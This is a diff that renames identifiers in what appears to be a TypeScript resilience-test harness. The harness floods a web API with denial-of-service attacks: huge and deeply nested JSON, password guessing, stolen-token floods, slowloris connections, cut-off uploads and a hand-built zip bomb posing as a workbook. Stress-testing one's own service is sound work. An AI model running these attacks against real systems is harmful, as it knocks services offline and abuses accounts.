@@ -3,9 +3,9 @@ import { randomBytes, randomInt } from 'node:crypto';
 import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { deflateRawSync } from 'node:zlib';
-import { type Sent, send } from './sender.ts';
+import { type RawRequest, sendRawRequest } from './rawRequest.ts';
 
-export type Target = {
+export type AttackTarget = {
   origin: string;
   /** Tokens of ordinary people whose accounts were taken over. */
   tokens: readonly string[];
@@ -18,25 +18,25 @@ export type Attack = {
   /** Milliseconds between two rounds of one attacker. */
   pauseMs: number;
   /** Statuses of the answers. */
-  round(target: Target): Promise<number[]>;
+  round(target: AttackTarget): Promise<number[]>;
 };
 
 /** One of a thousand addresses of a botnet. */
 const anyAddress = () => `198.51.${randomInt(4)}.${randomInt(250)}`;
 const oneAddress = '203.0.113.9';
 const anyOf = <T>(list: readonly T[]): T => list[randomInt(list.length)] as T; // the index is within the list
-const withToken = ({ tokens }: Target) => ({ authorization: `Bearer ${anyOf(tokens)}` });
+const withToken = ({ tokens }: AttackTarget) => ({ authorization: `Bearer ${anyOf(tokens)}` });
 
-const each = async (target: Target, address: string, requests: readonly Sent[]) =>
-  Promise.all(requests.map((one) => send(target.origin, address, one)));
+const sendFromAddress = async (target: AttackTarget, address: string, requests: readonly RawRequest[]) =>
+  Promise.all(requests.map((one) => sendRawRequest(target.origin, address, one)));
 
 const zeros = `[${'0,'.repeat(5_000_000)}0]`;
-const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
+const nestedJson = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
 // Bytes, made once: the attackers share the machine with what they attack.
 const largeLogin = Buffer.from(`{"username":${zeros}}`);
-const deepLogin = Buffer.from(nested(100_000));
+const deepLogin = Buffer.from(nestedJson(100_000));
 const largeList = Buffer.from(`{"initFilter":{"a":${zeros}}}`);
-const deepRecord = Buffer.from(`{"name":${nested(50_000)}}`);
+const deepRecord = Buffer.from(`{"name":${nestedJson(50_000)}}`);
 /** As many conditions as one filter may have, each of which looks through all texts. */
 const costlyFilter = (count: number) => ({
   any: Array.from({ length: count }, (_, n) => ({ field: 'name', is: 'notContains', value: `程${n}` })),
@@ -48,7 +48,7 @@ export const attacks: readonly Attack[] = [
     width: 4,
     pauseMs: 50,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         { path: '/api/login', body: largeLogin },
         { path: '/api/encrypt/login', body: deepLogin },
       ]),
@@ -58,7 +58,7 @@ export const attacks: readonly Attack[] = [
     width: 4,
     pauseMs: 100,
     round: (target) =>
-      each(target, oneAddress, [
+      sendFromAddress(target, oneAddress, [
         {
           path: '/api/login',
           body: JSON.stringify({ username: `user${randomInt(1000)}`, password: 'Abc12345!' }),
@@ -70,7 +70,7 @@ export const attacks: readonly Attack[] = [
     width: 4,
     pauseMs: 100,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         {
           path: '/api/login',
           body: JSON.stringify({ username: 'admin', password: randomBytes(6).toString('hex') }),
@@ -82,7 +82,7 @@ export const attacks: readonly Attack[] = [
     width: 8,
     pauseMs: 20,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         {
           path: '/api/getInfo',
           headers: { authorization: `Bearer ${randomBytes(32).toString('base64url')}` },
@@ -93,14 +93,14 @@ export const attacks: readonly Attack[] = [
     name: 'captchas without end',
     width: 4,
     pauseMs: 50,
-    round: (target) => each(target, anyAddress(), [{ path: '/api/captchaImage' }]),
+    round: (target) => sendFromAddress(target, anyAddress(), [{ path: '/api/captchaImage' }]),
   },
   {
     name: 'deep and wide JSON from a person signed in',
     width: 4,
     pauseMs: 100,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         {
           path: '/api/auto/auto_contract/list',
           headers: withToken(target),
@@ -114,7 +114,7 @@ export const attacks: readonly Attack[] = [
     width: 3,
     pauseMs: 100,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         {
           path: '/api/auto/auto_contract/list',
           headers: withToken(target),
@@ -132,7 +132,7 @@ export const attacks: readonly Attack[] = [
     width: 4,
     pauseMs: 50,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         { path: `/api/auto/${'a'.repeat(8_000)}/1` },
         { path: `/api/flowable/task/myTask?${'keyword=a&'.repeat(1_000)}`, headers: withToken(target) },
       ]),
@@ -141,14 +141,14 @@ export const attacks: readonly Attack[] = [
     name: 'slow heads and bodies',
     width: 20,
     pauseMs: 100,
-    round: ({ origin }) => slowly(origin),
+    round: ({ origin }) => sendSlowly(origin),
   },
   {
     name: 'answers nobody waits for',
     width: 4,
     pauseMs: 50,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         {
           path: '/api/auto/auto_contract/list',
           headers: withToken(target),
@@ -162,7 +162,7 @@ export const attacks: readonly Attack[] = [
     width: 10,
     pauseMs: 200,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         { path: '/api/events', headers: withToken(target), hangUpMs: randomInt(500, 3_000) },
       ]),
   },
@@ -171,7 +171,7 @@ export const attacks: readonly Attack[] = [
     width: 2,
     pauseMs: 500,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         { path: '/api/auto/auto_contract/export', headers: withToken(target), body: '{"background":true}' },
       ]),
   },
@@ -180,9 +180,9 @@ export const attacks: readonly Attack[] = [
     width: 2,
     pauseMs: 200,
     round: (target) =>
-      each(target, anyAddress(), [
+      sendFromAddress(target, anyAddress(), [
         upload(withToken(target), 'a.txt', Buffer.alloc(200_000, 97), 150_000),
-        upload(withToken(target), 'bomb.xlsx', bomb),
+        upload(withToken(target), 'bomb.xlsx', zipBomb),
       ]),
   },
 ];
@@ -190,7 +190,7 @@ export const attacks: readonly Attack[] = [
 const boundary = 'siegeboundary';
 
 /** A multipart request; `cutAt` bytes of it are sent where that is given, as if the sender had gone. */
-function upload(headers: Record<string, string>, name: string, bytes: Buffer, cutAt?: number): Sent {
+function upload(headers: Record<string, string>, name: string, bytes: Buffer, cutAt?: number): RawRequest {
   const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: application/octet-stream\r\n\r\n`;
   const whole = Buffer.concat([Buffer.from(head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]);
   return {
@@ -201,10 +201,10 @@ function upload(headers: Record<string, string>, name: string, bytes: Buffer, cu
 }
 
 /** A zip entry of 200 MB in 200 kB, as a reader of workbooks would inflate it. */
-const bomb = zipOf('xl/worksheets/sheet1.xml', Buffer.alloc(200_000_000, 32));
+const zipBomb = buildZip('xl/worksheets/sheet1.xml', Buffer.alloc(200_000_000, 32));
 
 /** One deflated entry with its directory (APPNOTE.TXT 4.3); checksums are left at zero. */
-function zipOf(name: string, content: Buffer): Buffer {
+function buildZip(name: string, content: Buffer): Buffer {
   const packed = deflateRawSync(content);
   const fields = Buffer.alloc(22);
   fields.writeUInt16LE(20, 0);
@@ -231,7 +231,7 @@ function zipOf(name: string, content: Buffer): Buffer {
 }
 
 /** A connection whose request comes byte by byte and never ends; held for some seconds. */
-async function slowly(origin: string): Promise<number[]> {
+async function sendSlowly(origin: string): Promise<number[]> {
   const { hostname, port } = new URL(origin);
   const socket = connect(Number(port), hostname);
   socket.on('error', () => undefined);
